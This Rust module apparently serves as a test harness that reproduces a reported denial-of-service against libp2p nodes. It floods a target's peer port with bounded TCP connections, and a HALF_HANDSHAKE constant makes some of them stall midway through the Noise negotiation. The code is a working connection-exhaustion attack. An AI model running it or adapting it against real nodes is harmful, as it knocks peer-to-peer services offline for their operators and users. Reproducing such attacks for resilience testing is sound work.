//! A flood of TCP connections to one port, as anyone who can reach a node's peer port can
//! open without a key: most connect and say nothing; some begin a libp2p handshake (the
//! protocol negotiation and the Noise proposal) and stall there.
//!
//! The flood opens `held` connections and holds them all for `hold_first`, as the reports of
//! the attack describe; then it goes on opening new ones at a steady pace, closing the
//! oldest, so that the target faces a full set of fresh connections (and fresh stalled
//! handshakes) all along. It is bounded in connections and in time, and stops (closing
//! everything) when asked or dropped.

use std::collections::VecDeque;
use std::io::Write as _;
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::mpsc::{self, RecvTimeoutError};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// What a dialer sends first on a libp2p TCP connection (multistream-select's header and its
/// proposal of Noise, each length-prefixed), and no more: a handshake that stalls.
const HALF_HANDSHAKE: &[u8] = b"\x13/multistream/1.0.0\n\x07/noise\n";

/// How a flood goes.
#[derive(Debug, Clone, Copy)]
pub struct FloodOptions {
    /// Connections held open at once.
    pub held: usize,
    /// One connection in this many starts a handshake and stalls; the rest say nothing.
    pub stall_every: usize,
    /// New connections a second.
    pub per_second: u32,
    /// How long the first `held` connections are held before any is renewed.
    pub hold_first: Duration,
    /// The most connections attempted in all.
    pub max_connections: usize,
    /// The longest it runs, whatever happens.
    pub max_time: Duration,
}

/// A flood running on its own thread.
#[derive(Debug)]
pub struct Flood {
    stop: Option<mpsc::Sender<()>>,
    opened: Arc<AtomicUsize>,
    thread: Option<JoinHandle<()>>,
}

impl Flood {
    /// Starts flooding `target`.
    pub fn start(target: SocketAddr, options: FloodOptions) -> Flood {
        let (stop, stopped) = mpsc::channel();
        let opened = Arc::new(AtomicUsize::new(0));
        let counter = opened.clone();
        let thread = std::thread::spawn(move || run(target, options, &stopped, &counter));
        Flood {
            stop: Some(stop),
            opened,
            thread: Some(thread),
        }
    }

    /// Connections opened so far.
    pub fn opened(&self) -> usize {
        self.opened.load(Ordering::Relaxed)
    }

    /// Whether it is still going (not stopped, not past its bounds).
    pub fn is_running(&self) -> bool {
        self.thread.as_ref().is_some_and(|t| !t.is_finished())
    }

    /// Stops, closes every connection and returns how many were opened.
    pub fn stop(mut self) -> usize {
        self.end();
        self.opened()
    }

    fn end(&mut self) {
        drop(self.stop.take());
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.end();
    }
}

fn run(
    target: SocketAddr,
    options: FloodOptions,
    stopped: &mpsc::Receiver<()>,
    opened: &AtomicUsize,
) {
    let end = Instant::now() + options.max_time;
    let every = Duration::from_secs_f64(1.0 / f64::from(options.per_second));
    let mut held = VecDeque::with_capacity(options.held + 1);
    let mut renewing = false;
    // Waits until `until` (pacing), or less if the flood is stopped meanwhile: whether it
    // should go on.
    let go_on = |until: Instant| {
        let wait = until.saturating_duration_since(Instant::now());
        matches!(stopped.recv_timeout(wait), Err(RecvTimeoutError::Timeout))
    };
    let mut due = Instant::now();
    for n in 0..options.max_connections {
        if due >= end || !go_on(due) {
            return;
        }
        due = (due + every).max(Instant::now());
        // A full backlog makes connecting time out: the target is not accepting as fast as
        // the flood comes, which is its right.
        if let Ok(mut stream) = TcpStream::connect_timeout(&target, Duration::from_secs(1)) {
            if n % options.stall_every == 0 {
                let _ = stream.write_all(HALF_HANDSHAKE);
            }
            held.push_back(stream);
            if held.len() > options.held {
                held.pop_front();
            }
            opened.fetch_add(1, Ordering::Relaxed);
        }
        if !renewing && held.len() >= options.held {
            renewing = true;
            due = Instant::now() + options.hold_first;
        }
    }
    // Every connection opened: hold them until stopped or out of time.
    go_on(end);
}
